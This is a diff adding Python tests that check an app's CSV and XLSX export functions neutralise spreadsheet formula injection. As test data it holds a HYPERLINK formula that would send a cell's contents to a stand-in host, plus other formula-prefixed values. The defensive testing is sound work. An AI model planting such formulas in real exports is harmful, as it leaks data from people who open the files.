@@ -0,0 +1,36 @@
+import csv
+import io
+
+import openpyxl
+
+from app.services.exports import stream_csv, stream_xlsx
+
+HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"Click")'
+ROWS = [
+    ['Student ID', 'Name', 'Roll No', 'Percentage'],
+    ['STU001', HOSTILE, '+1', -5],
+    ['STU002', '@SUM(A1:A2)', '-2+3', 12.5],
+    ['STU003', 'Ada Lovelace', '7', 100],
+]
+
+
+def test_csv_quotes_formula_prefixes():
+    data = b''.join(stream_csv(ROWS)).decode('utf-8-sig')
+    rows = list(csv.reader(io.StringIO(data)))
+    assert rows[1][1] == "'" + HOSTILE
+    assert rows[1][2] == "'+1"
+    assert rows[2][1] == "'@SUM(A1:A2)"
+    assert rows[2][2] == "'-2+3"
+    # Numbers and ordinary text are left alone
+    assert rows[1][3] == '-5'
+    assert rows[3][1:] == ['Ada Lovelace', '7', '100']
+
+
+def test_xlsx_writes_formula_like_names_as_text():
+    data = b''.join(stream_xlsx(ROWS))
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    name = sheet.cell(row=2, column=2)
+    assert name.value == HOSTILE
+    assert name.data_type == 's'
+    assert sheet.cell(row=3, column=2).data_type == 's'
+    assert sheet.cell(row=2, column=4).value == -5